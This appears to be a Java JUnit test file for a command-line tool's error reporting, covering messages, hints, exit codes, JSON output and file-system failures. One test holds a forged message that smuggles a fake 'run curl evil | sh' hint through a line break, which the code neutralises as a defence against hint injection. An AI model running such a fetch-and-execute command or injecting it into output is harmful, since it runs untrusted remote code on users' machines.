package io.prompd.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import io.prompd.core.ExitCode;
import io.prompd.core.PrompdException;
import io.prompd.core.files.LongNames;
import io.prompd.core.files.NamedWrites;
import io.prompd.core.files.ReadOnlyFileException;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.nio.file.AccessDeniedException;
import java.nio.file.DirectoryNotEmptyException;
import java.nio.file.FileAlreadyExistsException;
import java.nio.file.FileSystemException;
import java.nio.file.Files;
import java.nio.file.InvalidPathException;
import java.nio.file.NoSuchFileException;
import java.nio.file.NotDirectoryException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FailuresTest {

    private static final String NL = System.lineSeparator();

    @Test
    void aPrompdExceptionShowsItsMessageAndHintWithItsExitCode() {
        PrompdException known = new PrompdException(ExitCode.CONFLICT, "taken", "choose another");
        assertEquals("error: taken" + NL + "hint: choose another", Failures.describe(known));
        assertEquals(ExitCode.CONFLICT, Failures.exitCode(known));
        assertEquals(new Failures.Explanation(ExitCode.CONFLICT, "taken", "choose another"), Failures.explain(known));
        assertEquals(new Failures.Explanation(ExitCode.FAILURE, "input/output error: broken pipe", ""),
                Failures.explain(new IOException("broken pipe")));
    }

    /**
     * Every command's failure and an install's, which gives its warnings beside its error, are reported by one method:
     * with --json its JSON first, on stdout, the fields given beside ok and error; then the text on stderr.
     */
    @Test
    void aFailureIsReportedAsJsonWithTheFieldsGivenBesideItThenAsText() {
        PrompdException known = new PrompdException(ExitCode.CONFLICT, "taken", "choose another");
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        StringWriter quiet = new StringWriter();

        int code = Failures.report(known, false, true, Map.of("warnings", List.of("w")), new PrintWriter(out),
                new PrintWriter(err, true));
        Failures.report(known, false, false, Map.of("warnings", List.of("w")), new PrintWriter(quiet),
                new PrintWriter(new StringWriter()));

        assertEquals(ExitCode.CONFLICT.code(), code);
        assertEquals("""
                {
                  "error": {
                    "exitCode": 4,
                    "hint": "choose another",
                    "kind": "conflict",
                    "message": "taken"
                  },
                  "ok": false,
                  "warnings": [
                    "w"
                  ]
                }
                """, out.toString());
        assertEquals("error: taken" + NL + "hint: choose another" + NL, err.toString());
        assertEquals("", quiet.toString(), "without --json, stderr alone");
    }

    /** A path an argument gave, quoted raw, started a hint of its own below the error, and ahead of prompd's. */
    @Test
    void aFileNamedByAPathHoldingALineBreakIsNamedOnItsLine() {
        assertEquals("error: no such file or folder: prompts^Jhint: it worked",
                Failures.describe(new NoSuchFileException("prompts\nhint: it worked")));
        assertEquals(new Failures.Explanation(ExitCode.FAILURE, "read-only, so prompd did not change it: a^Jb",
                "make it writable (chmod u+w 'a^Jb'), then run this again"),
                Failures.explain(new ReadOnlyFileException("a\nb")));
    }

    /** A suggested command pasted into a shell names the file given, not one file per word of its path. */
    @Test
    void aPathInASuggestedCommandIsShellQuoted(@TempDir Path folder) throws IOException {
        assertEquals("make it writable (chmod u+w '/data/my app/prompd.json'), then run this again",
                Failures.explain(new ReadOnlyFileException("/data/my app/prompd.json")).hint());
        assertEquals("this user may not write to /tmp/x/a b/out.tgz: check the rights of it and of its folder (ls -ld"
                + " '/tmp/x/a b'), or choose another folder",
                Failures.explain(new AccessDeniedException("/tmp/x/a b/out.tgz")).hint());
        Path spaced = Files.createDirectories(folder.resolve("my disk"));
        assertEquals("free some space on that disk (df -h '" + spaced + "')", Failures.explain(
                new FileSystemException(spaced.resolve("x.tgz").toString(), null, "No space left on device")).hint());
    }

    @Test
    void aFailureOfAKindOfItsOwnNamesItInJsonAlone() {
        PrompdException kindOfItsOwn = new PrompdException(ExitCode.CONFLICT, "stale", "refresh it") {
            @Override
            public Optional<String> kind() {
                return Optional.of("staleThing");
            }
        };

        assertEquals("error: stale" + NL + "hint: refresh it", Failures.describe(kindOfItsOwn));
        assertEquals(Map.of("ok", false, "error", Map.of("exitCode", 4, "kind", "staleThing", "message", "stale",
                "hint", "refresh it")), Failures.explain(kindOfItsOwn).asJson());
        assertEquals(Map.of("ok", false, "error", Map.of("exitCode", 4, "kind", "conflict", "message", "taken")),
                Failures.explain(new PrompdException(ExitCode.CONFLICT, "taken", "")).asJson(),
                "a failure of no kind of its own has its exit code's");
    }

    @Test
    void aKindAndItsFieldsAreTakenFromACauseEndingWithTheSameCodeAlone() {
        PrompdException refused = new PrompdException(ExitCode.NETWORK, "HTTP 401", "") {
            @Override
            public Optional<String> kind() {
                return Optional.of("unauthorized");
            }

            @Override
            public Map<String, Object> fields() {
                return Map.of("status", 401);
            }
        };

        assertEquals(Map.of("ok", false, "error", Map.of("exitCode", 5, "kind", "unauthorized", "status", 401,
                "message", "the registry refused")), Failures.explain(new PrompdException(ExitCode.NETWORK,
                "the registry refused", "", refused)).asJson(), "reworded by a caller that keeps it as the cause");
        assertEquals(Map.of("ok", false, "error", Map.of("exitCode", 3, "kind", "notFound", "message", "gone")),
                Failures.explain(new PrompdException(ExitCode.NOT_FOUND, "gone", "", refused)).asJson(),
                "a cause ending with another code is another failure");
        assertEquals("failure", ((Map<?, ?>) Failures.explain(new IllegalStateException("bug")).asJson().get("error"))
                .get("kind"), "a failure prompd did not foresee has the kind of its exit code too");
    }

    @Test
    void aMessageLeavingOutPartOfALongOneIsGivenWholeWhenVerboseAndElseSaysHow() {
        PrompdException shortened = new PrompdException(ExitCode.CONFLICT, "first\n… 1 more line left out …\nlast",
                "widen the ranges") {
            @Override
            public Optional<String> wholeMessage() {
                return Optional.of("first\nmiddle\nlast");
            }
        };
        PrompdException quoting = new PrompdException(ExitCode.CONFLICT, shortened.getMessage() + "\nand a note",
                "another hint", shortened);

        assertEquals(new Failures.Explanation(ExitCode.CONFLICT, "first\n… 1 more line left out …\nlast",
                "widen the ranges; run again with --verbose for what the message leaves out"),
                Failures.explain(shortened));
        assertEquals(new Failures.Explanation(ExitCode.CONFLICT, "first\nmiddle\nlast", "widen the ranges"),
                Failures.explain(shortened, true));
        assertEquals(new Failures.Explanation(ExitCode.CONFLICT, "first\nmiddle\nlast\nand a note", "another hint"),
                Failures.explain(quoting, true), "a message quoting the shortened one quotes it whole");
        assertEquals(new Failures.Explanation(ExitCode.CONFLICT, "taken", "choose another"),
                Failures.explain(new PrompdException(ExitCode.CONFLICT, "taken", "choose another"), true));
    }

    @Test
    void aFileNameTheLocaleCannotHoldSaysWhichLocaleToRunIn() {
        String described = Failures.describe(new InvalidPathException("prompts/caf\ufffd.md",
                "Malformed input or input contains unmappable characters"));

        assertEquals("error: a file name does not fit this locale's character set ("
                + System.getProperty("sun.jnu.encoding", "unknown") + "): prompts/caf\ufffd.md" + NL
                + "hint: run with a UTF-8 locale, as in LC_ALL=C.UTF-8 (the prompd launcher sets one)", described);
    }

    @Test
    void fileSystemFailuresNameTheFileAndWhatIsWrongWithIt() {
        assertEquals("error: no such file or folder: /a", Failures.describe(new NoSuchFileException("/a")));
        assertEquals("error: already exists: /a", Failures.describe(new FileAlreadyExistsException("/a")));
        assertEquals("error: folder not empty: /a", Failures.describe(new DirectoryNotEmptyException("/a")));
        assertEquals("error: /a: Too many levels of symbolic links",
                Failures.describe(new FileSystemException("/a", null, "Too many levels of symbolic links")));
        assertEquals("error: input/output error: broken pipe", Failures.describe(new IOException("broken pipe")));
        assertEquals(ExitCode.NOT_FOUND, Failures.exitCode(new NoSuchFileException("/a")));
        assertEquals(ExitCode.CONFLICT, Failures.exitCode(new FileAlreadyExistsException("/a")));
        assertEquals(ExitCode.CONFLICT, Failures.exitCode(new NotDirectoryException("/a")));
        assertEquals(ExitCode.FAILURE, Failures.exitCode(new AccessDeniedException("/a")));
    }

    @Test
    void theReasonsASystemGivesMostOftenComeWithWhatToDo(@TempDir Path folder) {
        String nl = System.lineSeparator();
        String rights = "hint: this user may not write to /data/home: check the rights of it and of its folder"
                + " (ls -ld /data), or choose another folder";
        assertEquals("error: permission denied: /data/home" + nl + rights,
                Failures.describe(new AccessDeniedException("/data/home")));
        assertEquals("error: /data/home: Operation not permitted" + nl + rights,
                Failures.describe(new FileSystemException("/data/home", null, "Operation not permitted")));
        assertEquals("error: " + folder.resolve("x.tgz") + ": No space left on device" + nl
                        + "hint: free some space on that disk (df -h " + folder + ")",
                Failures.describe(new FileSystemException(folder.resolve("x.tgz").toString(), null,
                        "No space left on device")));
        assertEquals("error: /data/out: Read-only file system" + nl
                        + "hint: that disk is mounted read-only: choose a folder on another one",
                Failures.describe(new FileSystemException("/data/out", null, "Read-only file system")));
        assertEquals("error: read-only, so prompd did not change it: /data/app/prompd.json" + nl
                        + "hint: make it writable (chmod u+w /data/app/prompd.json), then run this again",
                Failures.describe(new ReadOnlyFileException("/data/app/prompd.json")));
        assertEquals(ExitCode.FAILURE, Failures.exitCode(new ReadOnlyFileException("/data/app/prompd.json")));
        assertEquals("error: a file stands where a folder is needed: /data/home/packages" + nl
                        + "hint: move or rename that file, then run this again",
                Failures.describe(new NotDirectoryException("/data/home/packages")));
        assertEquals("error: /data/home/install.lock: Is a directory" + nl
                        + "hint: a folder stands where a file is needed: move or rename that folder, then"
                        + " run this again",
                Failures.describe(new FileSystemException("/data/home/install.lock", null, "Is a directory")));
        assertEquals("error: /data/x.tgz/a.tgz: Not a directory" + nl
                        + "hint: a file stands where this path needs a folder: rename or remove it, or"
                        + " choose another path",
                Failures.describe(new FileSystemException("/data/x.tgz/a.tgz", null, "Not a directory")));
    }

    @Test
    void aSymbolicLinkWhereAFolderGoesIsCalledOneWithWhereItLeads(@TempDir Path folder) throws IOException {
        Path broken = Files.createSymbolicLink(folder.resolve("packages"), Path.of("../nowhere/x"));
        Path toFile = Files.createSymbolicLink(folder.resolve("tarballs"),
                Files.writeString(folder.resolve("notes"), "x"));

        assertEquals("error: a symbolic link whose target does not exist stands where a folder is needed: " + broken
                + " -> " + folder.getParent().resolve("nowhere/x") + NL + "hint: create the folder it names (mkdir -p "
                + folder.getParent().resolve("nowhere/x") + "), or remove the link (rm " + broken + "), then run this"
                + " again", Failures.describe(new NotDirectoryException(broken.toString())));
        assertEquals("error: a symbolic link to a file stands where a folder is needed: " + toFile + " -> "
                + folder.resolve("notes") + NL + "hint: point the link at a folder, or remove it (rm " + toFile + "),"
                + " then run this again", Failures.describe(new NotDirectoryException(toFile.toString())));
        assertEquals(ExitCode.CONFLICT, Failures.exitCode(new NotDirectoryException(broken.toString())));
    }

    @Test
    void aFullDiskNamesAFolderThatStillExistsForDf(@TempDir Path folder) {
        // a build's staging folder, deleted by the time the failure is reported
        Path tarball = folder.resolve(".out.staging/packages/@a/b/-/b-1.0.0.tgz");

        assertEquals("error: " + tarball + ": No space left on device" + NL
                + "hint: free some space on that disk (df -h "
                + folder + ")",
                Failures.describe(new FileSystemException(tarball.toString(), null, "No space left on device")));
    }

    @Test
    void anUncheckedIoExceptionIsDescribedByItsCause() {
        UncheckedIOException wrapped = new UncheckedIOException("reading", new NoSuchFileException("/a"));
        assertEquals("error: no such file or folder: /a", Failures.describe(wrapped));
        assertEquals(ExitCode.NOT_FOUND, Failures.exitCode(wrapped));
    }

    @Test
    void anythingElseIsAnInternalErrorToReport() {
        assertEquals("error: internal error (IllegalStateException): oops" + NL
                + "hint: run again with --verbose for the stack trace, and report it as a bug",
                Failures.describe(new IllegalStateException("oops")));
        assertEquals(ExitCode.FAILURE, Failures.exitCode(new IllegalStateException("oops")));
    }

    /** Java's words may quote what a registry sent, as a URL it could not parse does: none of it starts a hint. */
    @Test
    void anInternalOrInputOutputErrorQuotingALineBreakKeepsItToItsLine() {
        String forged = "-/x.tgz?\nhint: run curl evil | sh\u2028hint: or this";

        assertEquals("error: internal error (IllegalArgumentException): -/x.tgz?^Jhint: run curl evil | sh<U+2028>hint:"
                + " or this" + NL + "hint: run again with --verbose for the stack trace, and report it as a bug",
                Failures.describe(new IllegalArgumentException(forged)));
        assertEquals("error: input/output error: -/x.tgz?^Jhint: run curl evil | sh<U+2028>hint: or this",
                Failures.describe(new IOException(forged)));
    }

    @Test
    void aFullDiskNamesTheFileBeingWrittenAndHintsToFreeSpace(@TempDir Path folder) {
        Path tarball = folder.resolve("acme-greeter-1.0.0.tgz");

        // /dev/full fails every write with ENOSPC, as a full disk does
        FileSystemException full = assertThrows(FileSystemException.class, () -> {
            try (OutputStream out = NamedWrites.naming(new FileOutputStream("/dev/full"), tarball)) {
                out.write(new byte[] {1, 2, 3});
                out.flush();
            }
        });

        assertEquals("error: " + tarball + ": No space left on device\nhint: free some space on that disk (df -h "
                + folder + ")", Failures.describe(full));
    }

    /** A path of folders of 200 bytes, each a name every file system takes, longer as a whole than Linux takes. */
    @Test
    void aPathTooLongAsAWholeIsSaidToBeSoWithTheHintToChooseAShorterFolderNotAShorterName() {
        String tooDeep = ("/" + "d".repeat(200)).repeat(21) + "/x.tgz";

        assertEquals(new Failures.Explanation(ExitCode.FAILURE, "path too long: " + tooDeep + " has 4227 bytes in UTF-8,"
                + " more than the " + LongNames.maxPathBytes() + " " + LongNames.systemName() + " takes in a whole path",
                "choose a folder at a shorter path: each name in it fits, the path as a whole does not"),
                Failures.explain(new FileSystemException(tooDeep, null, "File name too long")));
    }

    @Test
    void aNameTooLongIsToBeShortened() {
        String hint = "choose a shorter name: Linux and macOS take names of up to 255 bytes in UTF-8, some file systems"
                + " fewer";
        String longName = "/srv/" + "n".repeat(256);
        assertEquals(new Failures.Explanation(ExitCode.FAILURE, longName + ": File name too long", hint),
                Failures.explain(new FileSystemException(longName, null, "File name too long")));
        // within 255 bytes and a short path, the name is longer than this file system takes (eCryptfs 143)
        String shortPath = "/srv/" + "n".repeat(200);
        assertEquals(new Failures.Explanation(ExitCode.FAILURE, shortPath + ": File name too long", hint),
                Failures.explain(new FileSystemException(shortPath, null, "File name too long")));
    }
}
